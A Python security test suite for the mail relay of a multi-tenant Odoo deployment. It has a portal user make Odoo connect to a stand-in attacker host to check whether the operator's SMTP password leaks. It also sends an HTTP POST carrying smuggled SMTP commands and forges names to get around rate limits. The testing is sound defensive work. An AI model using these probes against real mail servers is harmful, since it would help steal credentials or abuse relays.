"""Attacks on the operator's mail account, and on the relay that has it: by users of tenants, and from other networks."""

import relay
from browser import Refused
from compose import service_plan
from deployment import comes
from isolation import must
from mail_server import MailServer, dialog
from proof import equal, expect, run
from topics.doors import visitors

NEEDS_ODOO = True
# A host of the attacker, beside that of the mail server.
ATTACKER = "198.51.100.66"
LETTER = ["EHLO x.example", "MAIL FROM:<a@b.example>", "RCPT TO:<c@d.example>", "DATA"]
# What a program in the container says; the last answer.
INSIDE = """
import smtplib, sys
connection = smtplib.SMTP(sys.argv[1], 25, local_hostname=sys.argv[2], timeout=30)
connection.ehlo()
for command in ("MAIL FROM:<a@b.example>", "RCPT TO:<c@d.example>", "DATA"):
    code, said = connection.docmd(command)
    if code >= 400: break
print(code, said.decode())
"""
# The way of Odoo's own modules.
SENDS = """
server = env['ir.mail_server']
build = getattr(server, '_build_email__', None) or server.build_email
server.send_email(build('a@t1.example', ['c@d.example'], 'from a tenant', 'the text'))
"""


def prepare(scene):
    """The relay, by its own script, and the mail server behind it."""
    site = scene.site
    relay.fresh_host()
    scene.mail_server = relay.mail_server(site.model, site.secret(site.model["odoo"]["mail"]["secret"]))
    scene.mail_server.__enter__()
    installed = site.run("mail/install.sh")
    if installed.returncode != 0:
        raise RuntimeError(installed.stdout)


def gateways(site):
    """The host's address in each network that leads out, by instance."""
    networks = {network["name"]: network["gateway"] for network in site.model["networks"] if not network["is_internal"]}
    return {
        kind: next(networks[name] for name in service_plan(site.model, site.model["odoo"][kind]["service"])["networks"] if name in networks)
        for kind in ("tenants", "superadmin")
    }


def portal_user(administrator, login):
    """Makes a customer with access to the portal, and nothing else."""
    group = administrator.model("ir.model.data", "search_read", [["module", "=", "base"], ["name", "=", "group_portal"]], ["res_id"])
    values = {"name": login, "login": login, "password": f"{login}-Password", "group_ids": [[6, 0, [group[0]["res_id"]]]]}
    administrator.model("res.users", "create", [values])


def refused(call, *arguments, **options):
    """Odoo's message if it refuses; nothing if it does not."""
    try:
        call(*arguments, **options)
    except Refused as refusal:
        return str(refusal)
    return ""


def of_account(scene, customer):
    """A customer of a tenant has Odoo log in to a server of the attacker, in every way of naming it."""
    letter = dict.fromkeys(("From", "To", "Cc", "Bcc", "Return-Path", "Message-Id"), "a@b.example")
    account = scene.site.secret(scene.site.model["odoo"]["mail"]["secret"])
    with MailServer(ATTACKER, 2525) as attacker:
        for options in ({}, {"smtp_user": "odoo@example.net"}, {"smtp_debug": True}, {"smtp_encryption": "none"}):
            refused(customer.model, "ir.mail_server", "send_email", letter, smtp_server=ATTACKER, smtp_port=2525, **options)
        yield expect(len(attacker.greetings) >= 4, "a customer can have Odoo connect to the attacker's host", attacker.visits)
        words = [word for shown in attacker.accounts for word in shown]
        yield expect(account not in words, "which is not given the operator's password", attacker.accounts)
        named = [name for name in attacker.greetings if name.endswith(".odoo.internal")]
        yield equal(named, [], "nor told which database it is")
    configuration = scene.site.inside("odoo", "cat", "/run/odoo/odoo.conf").stdout
    yield expect("smtp_server" in configuration and "smtp_user" not in configuration, "no account is in the joined configuration")
    mounted = scene.site.inside("odoo", "ls", "/run/secrets").stdout
    yield expect("smtp" not in mounted, "nor is the password among the container's secrets", mounted)


def server_record(administrator, host, port=25):
    """A tenant's own mail server, as an administrator may enter it."""
    values = {"name": host, "smtp_host": host, "smtp_port": port, "smtp_encryption": "none", "from_filter": "a@b.example"}
    return administrator.model("ir.mail_server", "create", [values])[0]


def of_rate(scene, one, two):
    """One tenant uses up its rate, by any name of the relay; the other can still send."""
    site = scene.site
    relays = gateways(site)
    allowed = site.model["odoo"]["mail"]["tenant_rate_count"]
    record = server_record(one, relays["tenants"])
    said = ""
    for count in range(allowed + 1):
        said = refused(one.model, "ir.mail_server", "test_smtp_connection", [record])
        if said:
            break
    # One letter was sent before.
    yield equal(count, allowed - 1, "a tenant may send to as many recipients as its rate says")
    yield expect("4.7.1" in said and "this database has sent" in said, "and is told to come again later", said)
    other = server_record(two, relays["tenants"])
    yield equal(refused(two.model, "ir.mail_server", "test_smtp_connection", [other]), "", "another tenant may send meanwhile")
    aside = server_record(one, relays["superadmin"])
    said = refused(one.model, "ir.mail_server", "test_smtp_connection", [aside])
    yield expect("Access denied" in said, "the superadmin's way to the relay is closed to tenants", said)
    with MailServer(ATTACKER, 2526) as own:
        direct = server_record(one, ATTACKER, 2526)
        yield equal(refused(one.model, "ir.mail_server", "test_smtp_connection", [direct]), "", "a tenant's own mail server is reached directly")
        yield expect(own.greetings and not own.greetings[-1].endswith(".odoo.internal"), "by Odoo's own greeting", own.greetings)


def of_strangers(scene):
    """Clients outside the networks of the containers."""
    relays = gateways(scene.site)
    for kind, address in relays.items():
        for source, who in ((scene.front.client(), "another network"), (address, "this host itself")):
            answer = dialog(address, *LETTER, source=source)
            yield expect(answer.startswith("554 5.7.1"), f"the relay of {kind} takes nothing from {who}", answer)
    public = scene.site.model["server"]["ipv4"]
    try:
        answer = dialog(public, *LETTER)
    except OSError as error:
        answer = str(error)
    yield expect("refused" in answer, "nothing listens on the public address", answer)


def of_containers(scene):
    """Programs in the container that name no database share one rate; HTTP is not accepted as SMTP."""
    site = scene.site
    address, allowed = gateways(site)["tenants"], site.model["odoo"]["mail"]["tenant_rate_count"]
    answers = [site.inside("odoo", "python3", "-c", INSIDE, address, f"{count}.example").stdout for count in range(allowed + 1)]
    yield expect(all(answer.startswith("354") for answer in answers[:-1]), "what names no database may send a little", answers)
    yield expect("450 4.7.1" in answers[-1] and "names no database" in answers[-1], "under whatever names", answers[-1])
    post = f"import urllib.request as u; print(u.urlopen('http://{address}:25/', b'\\r\\nEHLO t2_db.odoo.internal\\r\\n', timeout=20).read())"
    asked = site.inside("odoo", "python3", "-c", post)
    yield expect(asked.returncode != 0, "HTTP gets nowhere", asked.stdout)
    unknown = dialog(address, "POST / HTTP/1.1", source=None)
    yield expect(unknown.startswith("221"), "and its connection is closed at the first line", unknown)


def arrives(scene, database, what):
    """A letter that Odoo's own modules send arrives at the mail server, with the account, over TLS."""
    server, mail = scene.mail_server, scene.site.model["odoo"]["mail"]
    before = len(server.letters)
    sent = scene.site.odoo("odoo", "shell", "-d", database, "--no-http", script=SENDS)
    came = comes(lambda: len(server.letters) > before, 60)
    yield expect(came, what, f"{sent.stdout[-3000:]}\n{run('postqueue', '-p').stdout}")
    if came:
        account = (mail["user"], scene.site.secret(mail["secret"]), True)
        yield equal(server.accounts[-1], account, "with the operator's account, over TLS")
        _, recipients, text = server.letters[-1]
        yield expect("<c@d.example>" in recipients[0] and "from a tenant" in text, "for whom it was written", server.letters[-1])
        yield expect(f"{database}.odoo.internal" in text, "and it says which database it is from", text)


def of_filter(scene):
    """The rules that keep the containers away from this machine let them reach the relay, and no other port."""
    must(scene.site.out / "egress.sh", "--load")
    yield from arrives(scene, "t2_db", "mail arrives while the containers are kept from this machine")
    must("nft", "delete", "table", "inet", f"{scene.site.model['name']}-egress")


def of_script(scene):
    """The script finds nothing to do, and reports deviations."""
    site = scene.site
    yield equal(site.run("mail/install.sh").stdout, "nothing to change\n", "a second run changes nothing")
    checked = site.run("mail/install.sh", "--check")
    yield equal((checked.returncode, checked.stdout), (0, ""), "its check finds nothing")


def prove(scene):
    """Everything about the mail."""
    prepare(scene)
    one, two = visitors(scene)
    one.log_in("t1_db", "admin", scene.passwords["t1_db"])
    two.log_in("t2_db", "admin", scene.passwords["t2_db"])
    must("ip", "address", "add", ATTACKER, "dev", "lo")
    portal_user(one, "customer")
    customer = visitors(scene)[0]
    customer.log_in("t1_db", "customer", "customer-Password")
    yield from of_account(scene, customer)
    yield from arrives(scene, "t1_db", "a tenant's mail arrives at the mail server")
    yield from of_strangers(scene)
    yield from of_rate(scene, one, two)
    yield from of_containers(scene)
    yield from of_filter(scene)
    yield from of_script(scene)
